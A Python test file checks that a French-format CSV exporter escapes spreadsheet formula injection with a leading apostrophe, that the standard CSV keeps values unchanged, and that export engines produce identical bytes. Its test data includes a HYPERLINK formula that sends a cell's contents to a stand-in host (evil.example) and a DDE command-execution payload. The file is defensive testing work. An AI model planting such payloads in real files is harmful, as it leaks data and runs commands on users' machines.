"""The French CSV is the file people open in Excel, which runs a cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula (``=HYPERLINK(...)`` from a source's cell:
formula injection). Such a text cell gets a leading apostrophe there; numbers (negative ones
too) and the standard CSV keep their values exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from territoria.engines.base import Engine
from territoria.publication.formats import ExportJob
from territoria.publication.local_export import on_duckdb
from territoria.publication.tabular import write_csv_fr, write_csv_std, write_geojson

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Rennes")'
VALUES = [HOSTILE, "+33 2 99", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "-", "Bruz", "Saint-Jacques"]


def _rows(engine: Engine, tmp_path: Path, write: object, delimiter: str) -> list[list[str]]:
    literals = ", ".join(f"({i}, '{v.replace(chr(39), chr(39) * 2)}', {-1.5 * i})" for i, v in enumerate(VALUES))
    engine.ensure_schema("pub")
    engine.execute(f"CREATE TABLE pub.hostile AS SELECT * FROM (VALUES {literals}) AS t (n, nom, value)")
    dest = tmp_path / f"hostile{delimiter == ';'}.csv"
    columns = [("n", "INTEGER"), ("nom", "VARCHAR"), ("value", "DOUBLE")]
    job = ExportJob(engine, "pub.hostile", columns, dest, "hostile", titles={"nom": "=nom"})
    with on_duckdb(job) as written:  # as `territoria export` writes on every engine
        write(written)  # type: ignore[operator]
    return list(csv.reader(io.StringIO(dest.read_text(encoding="utf-8-sig")), delimiter=delimiter))


def test_the_french_csv_keeps_formulas_from_running(engine: Engine, tmp_path: Path) -> None:
    header, *rows = _rows(engine, tmp_path, write_csv_fr, ";")
    assert header == ["n", "'=nom", "value"]
    names = {int(r[0]): r[1] for r in rows}
    assert [names[i] for i in range(len(VALUES))] == [
        "'" + HOSTILE,
        "'+33 2 99",
        "'-cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'\tx",
        "-",
        "Bruz",
        "Saint-Jacques",
    ]
    assert {r[2] for r in rows} >= {"-1,5", "-10,5"}  # negative numbers stay numbers


def test_the_standard_csv_keeps_every_value(engine: Engine, tmp_path: Path) -> None:
    header, *rows = _rows(engine, tmp_path, write_csv_std, ",")
    assert header == ["n", "nom", "value"]
    assert sorted(r[1] for r in rows) == sorted(VALUES)


def test_every_engine_writes_the_bytes_duckdb_writes(engine: Engine, duckdb_engine: Engine, tmp_path: Path) -> None:
    """Numbers, booleans and geometries too: a store on PostgreSQL or Spark exports the same files."""
    spatial = engine.capabilities.spatial
    geometry = ", ST_GeomFromText('POINT(-1.68 48.11)') AS geometry" if spatial else ""
    columns = [("code", "VARCHAR"), ("value", "DOUBLE"), ("ok", "BOOLEAN")] + ([("geometry", "GEOMETRY")] * spatial)
    writers = [("csv", write_csv_fr), ("std.csv", write_csv_std)] + ([("geojson", write_geojson)] * spatial)
    files: dict[str, list[bytes]] = {}
    for side, store in (("engine", engine), ("duckdb", duckdb_engine)):
        store.ensure_schema("pub")
        store.execute(
            f"CREATE TABLE pub.cells AS SELECT code, value, ok{geometry} FROM (VALUES ('35238', 22543.894999999997, "
            "true), ('35047', -0.1, false), ('35206', 451.0, NULL)) AS t (code, value, ok)"
        )
        (tmp_path / side).mkdir()
        for extension, write in writers:
            dest = tmp_path / side / f"cells.{extension}"
            with on_duckdb(ExportJob(store, "pub.cells", columns, dest, "cells")) as written:
                write(written)
            files.setdefault(extension, []).append(dest.read_bytes())
    assert all(mine == duckdb for mine, duckdb in files.values()), files
    assert b"22543,895" in files["csv"][0] and b"-0,1" in files["csv"][0], files["csv"][0]
